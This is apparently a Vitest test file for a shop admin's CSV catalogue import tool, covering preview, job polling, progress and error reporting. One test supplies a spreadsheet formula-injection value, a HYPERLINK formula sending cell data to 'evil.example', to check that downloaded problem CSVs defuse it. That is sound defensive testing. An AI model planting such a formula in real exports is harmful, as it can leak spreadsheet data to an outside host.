import { type StubCall, stubApi } from '@kshop/ui/test/api-stub';
import { screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { renderWithProviders, signedIn } from '../../../test/render';
import { exportCatalogue, importCatalogue, previewCatalogueImport } from '../api/catalogue-api';
import { CsvTools } from './csv-tools';

const CSV = [
  'product_uuid,title,vendor,category_id,tags,release_date,artist_ids,option_uuid,option_key1,option_value1,option_key2,option_value2,price_krw,price_usd,compared_price_krw,compared_price_usd,stock,minimum_order_quantity,sold_out,is_default',
  ',Poster,KSHOP,9,,,,,SIZE,A2,,,15000,11.5,,,10,1,false,true',
  ',Poster,KSHOP,9,,,,,SIZE,A1,,,abc,11.5,,,10,1,false,false',
  ',Sticker,,9,,,,,TYPE,Round,,,3000,2.2,,,10,1,false,true',
].join('\r\n');

/** The upload answers the import job at once; the job is then polled until it ends. */
const started = {
  'POST /admin/catalogue/import': { statusCode: 202, message: 'Import started.', data: { jobId: 'job-1' } },
};
const job = { jobId: 'job-1', status: 'running', progress: null, result: null, failure: null };
const counts = { newProducts: 1, changedProducts: 0, newOptions: 1, changedOptions: 1, unchangedOptions: 5 };
/** A preview with nothing wrong: the Apply button is offered. */
const cleanPreview = {
  'POST /admin/catalogue/import/preview': {
    data: {
      counts,
      rows: [
        {
          row: 2,
          sku: 'KS000001',
          title: 'Poster',
          option: 'A2',
          status: 'changed',
          changes: [{ column: 'price_krw', from: '14000', to: '15000' }],
        },
        { row: 3, sku: null, title: 'Poster', option: 'A1', status: 'new', changes: [] },
      ],
      problems: [],
      notices: [],
    },
  },
};
const result = {
  productsCreated: 1,
  productsChanged: 0,
  optionsCreated: 1,
  optionsChanged: 1,
  optionsUnchanged: 5,
  stockLeftAlone: 0,
};
const problem = (row: number, sku: string | null, column: string, message: string) => ({
  row,
  sku,
  column,
  message,
});

function setup() {
  signedIn('staff-token');
  const onImported = vi.fn();
  const user = userEvent.setup();
  renderWithProviders(
    <CsvTools
      onExport={exportCatalogue}
      onPreview={previewCatalogueImport}
      onImport={(csv, onProgress, overwrite) => importCatalogue(csv, onProgress, 10, overwrite)}
      onImported={onImported}
    />,
  );
  const chooseFile = () =>
    user.upload(
      screen.getByLabelText('File to import'),
      new File([CSV], 'catalogue.csv', { type: 'text/csv' }),
    );
  return { user, onImported, chooseFile };
}

describe('CsvTools', () => {
  it('lists every problem of a refused import with its row, SKU and column, and says nothing changed', async () => {
    const api = stubApi({
      ...cleanPreview,
      ...started,
      'GET /admin/catalogue/imports/job-1': {
        data: {
          ...job,
          status: 'failed',
          failure: {
            message: 'The import changed nothing: 2 problems found.',
            problems: [
              problem(3, 'KS000003', 'price_krw', 'price_krw must be a number.'),
              problem(4, null, 'vendor', 'vendor is required.'),
            ],
          },
        },
      },
    });
    const { user, onImported, chooseFile } = setup();
    await chooseFile();
    await user.click(screen.getByRole('button', { name: 'Preview import' }));
    await user.click(await screen.findByRole('button', { name: 'Apply import' }));

    const table = await screen.findByRole('table', { name: 'Problems in the file' });
    expect(screen.getByText('The import changed nothing: 2 problems found.')).toBeTruthy();
    const rows = within(table)
      .getAllByRole('row')
      .slice(1)
      .map((row) =>
        within(row)
          .getAllByRole('cell')
          .map((cell) => cell.textContent),
      );
    expect(rows).toEqual([
      ['3', 'KS000003', 'price_krw', 'price_krw must be a number.'],
      ['4', '', 'vendor', 'vendor is required.'],
    ]);
    expect(onImported).not.toHaveBeenCalled();

    // The file's bytes go up as they are (the shop finds their encoding), as text/csv, with the staff token.
    const [call] = api.callsTo('POST /admin/catalogue/import') as StubCall[];
    const sent = await new Promise((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(reader.result);
      reader.readAsText(call?.body as Blob);
    });
    expect(sent).toBe(CSV);
    expect(call?.headers['Content-Type']).toBe('text/csv');
    expect(call?.headers.Authorization).toBe('Bearer staff-token');
  });

  it('previews new and changed rows with the changed columns, then reports what the import changed', async () => {
    const api = stubApi({
      ...cleanPreview,
      ...started,
      'GET /admin/catalogue/imports/job-1': { data: { ...job, status: 'done', result } },
    });
    const { user, onImported, chooseFile } = setup();
    await chooseFile();
    await user.click(
      screen.getByRole('checkbox', { name: 'Overwrite stock that moved in the shop since the export' }),
    );
    await user.click(screen.getByRole('button', { name: 'Preview import' }));
    expect(
      await screen.findByText(
        '1 new product, 0 changed products; 1 new option, 1 changed option, 5 unchanged options.',
      ),
    ).toBeTruthy();
    const table = screen.getByRole('table', { name: 'Rows that are new or change something' });
    expect(within(table).getByText('price_krw: 14000 → 15000')).toBeTruthy();
    expect(within(table).getByText('(new SKU)')).toBeTruthy();
    expect(onImported).not.toHaveBeenCalled();
    await user.click(screen.getByRole('button', { name: 'Apply import' }));
    expect(
      await screen.findByText(
        'Import done: 1 product created, 0 products changed, 1 option created, 1 option changed, 5 unchanged.',
      ),
    ).toBeTruthy();
    expect(onImported).toHaveBeenCalledTimes(1);
    expect(screen.queryByRole('table')).toBeNull();
    const [previewCall] = api.callsTo('POST /admin/catalogue/import/preview') as StubCall[];
    const [importCall] = api.callsTo('POST /admin/catalogue/import') as StubCall[];
    expect(previewCall?.url).toContain('overwriteStock=true');
    expect(importCall?.url).toContain('overwriteStock=true');
  });

  it('offers no Apply while the preview finds problems, and lets staff download them', async () => {
    const api = stubApi({
      'POST /admin/catalogue/import/preview': {
        data: {
          counts,
          rows: [],
          problems: [
            problem(4, 'KS000009', 'sku', 'sku KS000009 is on rows 4 and 12: each option once.'),
            problem(12, 'KS000009', 'sku', 'sku KS000009 is on rows 4 and 12: each option once.'),
          ],
          notices: [problem(6, 'KS000002', 'stock', 'stock moved in the shop since the export')],
        },
      },
    });
    const { user, chooseFile } = setup();
    await chooseFile();
    await user.click(screen.getByRole('button', { name: 'Preview import' }));
    const table = await screen.findByRole('table', { name: 'Problems in the file' });
    expect(within(table).getAllByRole('row')).toHaveLength(3);
    expect(screen.getByRole('table', { name: 'Stock left alone' })).toBeTruthy();
    expect(screen.queryByRole('button', { name: 'Apply import' })).toBeNull();
    expect(screen.getByRole('button', { name: 'Download problems' })).toBeTruthy();
    expect(api.callsTo('POST /admin/catalogue/import')).toHaveLength(0);
  });

  it('downloads the problems as CSV with texts from the file defused, so a formula in a SKU never runs', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    stubApi({
      'POST /admin/catalogue/import/preview': {
        data: {
          counts,
          rows: [],
          problems: [
            problem(
              3,
              formula,
              'sku',
              'sku is letters, digits and . _ - / (at most 64, starting with a letter or digit).',
            ),
            problem(5, '+1+2', 'stock', '-1 is not a stock.'),
            problem(7, 'KS000007', 'price_krw', 'price_krw must be a number.'),
          ],
          notices: [problem(9, '@SUM(A1)', 'stock', 'stock moved in the shop since the export')],
        },
      },
    });
    const saved: { blob: Blob; name: string }[] = [];
    let last: Blob | undefined;
    URL.createObjectURL = vi.fn((blob: Blob) => {
      last = blob;
      return 'blob:problems';
    });
    URL.revokeObjectURL = vi.fn();
    const click = vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (
      this: HTMLAnchorElement,
    ) {
      saved.push({ blob: last!, name: this.download });
    });
    try {
      const { user, chooseFile } = setup();
      await chooseFile();
      await user.click(screen.getByRole('button', { name: 'Preview import' }));
      await user.click(await screen.findByRole('button', { name: 'Download problems' }));
    } finally {
      click.mockRestore();
    }
    expect(saved.map((s) => s.name)).toEqual(['kshop-import-problems.csv']);
    const text = await new Promise<string>((resolve) => {
      const reader = new FileReader();
      reader.onload = () => resolve(String(reader.result));
      reader.readAsText(saved[0]!.blob);
    });
    expect(text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      'row,sku,column,kind,message',
      `3,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Open"")",sku,problem,"sku is letters, digits and . _ - / (at most 64, starting with a letter or digit)."`,
      "5,'+1+2,stock,problem,'-1 is not a stock.",
      '7,KS000007,price_krw,problem,price_krw must be a number.',
      "9,'@SUM(A1),stock,notice,stock moved in the shop since the export",
      '',
    ]);
  });

  it("shows the job's progress while the rows apply, then what the import changed", async () => {
    const states = [
      { ...job, status: 'queued' },
      { ...job, progress: { phase: 'checking', done: 0, total: 10000 } },
      { ...job, progress: { phase: 'applying', done: 4000, total: 10000 } },
      {
        ...job,
        status: 'done',
        progress: { phase: 'applying', done: 10000, total: 10000 },
        result: {
          ...result,
          productsCreated: 2000,
          optionsCreated: 10000,
          optionsChanged: 0,
          optionsUnchanged: 0,
        },
      },
    ];
    let polls = 0;
    let release: () => void = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    const api = stubApi({
      ...cleanPreview,
      ...started,
      'GET /admin/catalogue/imports/job-1': async () => {
        const state = states[Math.min(polls++, states.length - 1)]!;
        // The job stays half way until the bar was read.
        if (state.status === 'done') await held;
        return { data: state };
      },
    });
    const { user, onImported, chooseFile } = setup();
    await chooseFile();
    await user.click(screen.getByRole('button', { name: 'Preview import' }));
    await user.click(await screen.findByRole('button', { name: 'Apply import' }));
    expect(screen.getByRole('button', { name: 'Importing...' })).toBeTruthy();

    const bar = await screen.findByRole('progressbar', { name: 'Importing: 4,000 of 10,000 rows' });
    expect(bar.getAttribute('value')).toBe('4000');
    expect(bar.getAttribute('max')).toBe('10000');
    release();
    expect(
      await screen.findByText(
        'Import done: 2,000 products created, 0 products changed, 10,000 options created, 0 options changed, 0 unchanged.',
      ),
    ).toBeTruthy();
    expect(screen.queryByRole('progressbar')).toBeNull();
    expect(onImported).toHaveBeenCalledTimes(1);
    expect(api.callsTo('POST /admin/catalogue/import')).toHaveLength(1);
    expect(api.callsTo('GET /admin/catalogue/imports/job-1').length).toBeGreaterThanOrEqual(4);
  });

  it('asks for a file before previewing', async () => {
    const api = stubApi({});
    const { user } = setup();
    await user.click(screen.getByRole('button', { name: 'Preview import' }));
    expect((await screen.findByRole('alert')).textContent).toBe('Choose a CSV or Excel file first.');
    expect(api.calls).toHaveLength(0);
  });
});
